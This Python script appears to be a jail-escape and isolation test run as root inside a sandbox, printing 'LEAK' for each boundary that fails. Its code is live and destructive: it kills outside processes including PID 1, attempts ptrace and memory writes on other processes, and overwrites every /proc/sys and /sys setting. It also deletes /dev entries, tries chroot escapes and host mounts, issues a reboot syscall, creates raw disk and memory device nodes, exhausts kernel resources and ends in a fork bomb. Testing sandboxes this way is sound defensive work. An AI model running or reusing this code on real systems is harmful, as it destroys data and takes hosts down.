# Root of a jail that is allowed everything a jail can be allowed tries to change something outside, and to take everything there is.
# Prints what got through that must not; then holds what it took until it is killed.
import ctypes, errno, glob, mmap, os, signal, socket, struct, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
own = os.getpid()
mine = set(int(p) for p in os.listdir('/proc') if p.isdigit())
held = []


def leak(text):
    print('LEAK', text, flush=True)


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])


def quietly(action, *arguments):
    try:
        return action(*arguments)
    except (OSError, ValueError, OverflowError):
        return None


def outsiders():
    # By every number there may be: signals, memory, limits, priorities, descriptors.
    for pid in range(2, 3000):
        if pid in mine:
            continue
        for attempt, result in (
            ('kill', lambda: os.kill(pid, signal.SIGKILL)),
            ('pidfd', lambda: os.close(os.pidfd_open(pid))),
            ('affinity', lambda: os.sched_setaffinity(pid, {0})),
            ('priority', lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)),
            ('getpgid', lambda: os.getpgid(pid)),
        ):
            try:
                result()
                leak(f'{attempt} {pid}')
            except OSError as failure:
                if failure.errno not in (errno.ESRCH, errno.EINVAL):
                    leak(f'{attempt} {pid}: {failure}')
        buffer = ctypes.create_string_buffer(64)
        vector = struct.pack('QQ', ctypes.addressof(buffer), 64)
        for number in (310, 311):  # process_vm_readv, process_vm_writev
            if call(number, pid, vector, 1, struct.pack('QQ', 0x400000, 64), 1, 0) > 0:
                leak(f'memory of {pid}')
        if call(101, 16, pid, 0, 0) == 0:  # ptrace(PTRACE_ATTACH)
            leak(f'ptrace {pid}')
        if call(302, pid, 7, struct.pack('QQ', 0, 0), 0) == 0:  # prlimit64
            leak(f'prlimit {pid}')
        if os.path.exists(f'/proc/{pid}/root'):
            leak(f'/proc/{pid}')
    quietly(os.kill, 1, signal.SIGKILL)


def mounts():
    for source, target, kind, flags in (
        ('none', '/mnt', 'tmpfs', 0), ('/proc', '/mnt', None, 4096), ('/', '/mnt', None, 4096 | 16384), ('none', '/proc', 'proc', 0), ('none', '/sys', 'sysfs', 0),
        ('none', '/dev', 'devtmpfs', 0), ('none', '/', 'tmpfs', 32), ('/mnt', '/tmp', None, 8192), ('none', '/mnt', 'hostfs', 0), ('/etc', '/mnt', 'hostfs', 0),
        ('none', '/mnt', 'cgroup2', 0), ('/dev/sda', '/mnt', 'ext4', 0), ('none', '/mnt', 'overlay', 0),
    ):
        result = libc.mount(source.encode(), target.encode(), kind.encode() if kind else None, ctypes.c_ulong(flags), None)
        if result == 0 and kind == 'hostfs':
            leak('hostfs was mounted')
    for target in ('/mnt', '/proc', '/dev/pts', '/dev', '/tmp', '/sys'):
        libc.umount2(target.encode(), 2)
    libc.mount(b'none', b'/proc', b'proc', 0, None)
    libc.mount(b'none', b'/dev', b'devtmpfs', 0, None)


def writes():
    for path in glob.glob('/proc/sys/**', recursive=True) + glob.glob('/proc/[a-z]*') + glob.glob('/sys/**', recursive=True):
        if os.path.isfile(path) and not path.endswith(('kmsg', 'kcore')):
            for text in ('1', '0', 'x' * 5000):
                try:
                    with open(path, 'w') as file:
                        file.write(text)
                except (OSError, ValueError):
                    pass
    for name in list(os.listdir('/dev')):
        quietly(os.unlink, '/dev/' + name)


def escapes():
    root = os.open('/', os.O_RDONLY)
    quietly(os.mkdir, '/tmp/cell')
    inner = os.fork()
    if inner == 0:
        os.chroot('/tmp/cell')
        os.fchdir(root)
        for _ in range(100):
            os.chdir('..')
        os.chroot('.')
        names = set(os.listdir('/'))
        os.write(2, b'LEAK chroot\n') if 'jail-marker' not in names else None
        os._exit(0)
    os.waitpid(inner, 0)
    for path in ('/../../../../../witness-marker', '/proc/1/root/witness-marker', '/proc/self/root/../witness-marker', '/tmp/cell/../../../witness-marker'):
        if os.path.exists(path):
            leak(path)
    for number in (304, 272, 308, 321, 298, 175, 246, 169, 167, 163, 179):  # handles, unshare, setns, bpf, perf, modules, kexec, reboot, swap, acct, quota
        call(number, 0x4321fedc if number == 169 else 0, 0, 0, 0)
    call(169, 0xfee1dead, 672274793, 0x4321fedc, 0)


def nodes():
    for major, minor in ((1, 1), (1, 2), (1, 4), (8, 0), (10, 200), (1, 11), (259, 0), (254, 0)):
        path = f'/tmp/node-{major}-{minor}'
        if quietly(os.mknod, path, 0o20666, os.makedev(major, minor)) is None and os.path.exists(path):
            descriptor = quietly(os.open, path, os.O_RDWR)
            if descriptor is not None and (major, minor) in ((1, 1), (1, 2), (1, 4), (8, 0)):
                leak(path)
        quietly(os.mknod, path + 'b', 0o60666, os.makedev(major, minor))


def sockets():
    peer = socket.socket(socket.AF_UNIX)
    try:
        peer.connect('\0witness')
        leak('abstract socket')
    except OSError:
        pass
    for port in (1, 22, 7777):
        try:
            socket.create_connection(('127.0.0.1', port), timeout=0.2)
            leak(f'port {port}')
        except OSError:
            pass


def take(action, most=100000):
    try:
        for _ in range(most):
            held.append(action())
    except (OSError, MemoryError, ValueError):
        pass


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), '')
    return result


def exhaust():
    import resource
    quietly(resource.setrlimit, resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    fill = os.open('/dev/shm/fill', os.O_CREAT | os.O_WRONLY)
    take(lambda: os.write(fill, b'x' * (1 << 20)), 4096)
    layer = quietly(os.open, '/fill', os.O_CREAT | os.O_WRONLY)
    if layer is not None:
        take(lambda: os.write(layer, b'x' * (1 << 20)), 4096)
    memory = os.memfd_create('m')
    take(lambda: os.write(memory, b'x' * (1 << 20)), 4096)
    take(lambda: check(libc.shmget(0, 1 << 20, 0o600)), 5000)
    take(lambda: check(libc.semget(0, 100, 0o600)), 5000)
    take(lambda: check(libc.msgget(0, 0o600)), 5000)
    take(lambda: os.open('/dev/ptmx', os.O_RDWR), 500)
    take(os.pipe, 6000)
    for read, write in [pair for pair in held if isinstance(pair, tuple)]:
        os.set_blocking(write, False)
        take(lambda: os.write(write, b'x' * 65536), 64)
    take(lambda: check(call(283, 1, 0)), 2000)      # timerfd_create
    take(lambda: check(call(294, 0)), 2000)         # inotify_init1
    take(lambda: check(call(291, 0)), 2000)         # epoll_create1
    take(lambda: check(call(290, 0, 0)), 2000)      # eventfd2
    take(lambda: check(call(222, 1, 0, ctypes.create_string_buffer(4))), 5000)  # timer_create
    take(lambda: check(call(248, b'user', b'x', b'y', 1, -3)), 5000)            # add_key
    take(lambda: socket.socket(), 2000)
    take(lambda: socket.socketpair(), 2000)
    take(lambda: os.open('/', os.O_RDONLY), 100000)


for attempt in (outsiders, mounts, writes, escapes, nodes, sockets):
    try:
        attempt()
    except Exception as failure:
        print('STOPPED', attempt.__name__, repr(failure), flush=True)
exhaust()
while True:  # the fork bomb, until there are no more
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1000)
    except OSError:
        break
print('held', flush=True)
time.sleep(1000)
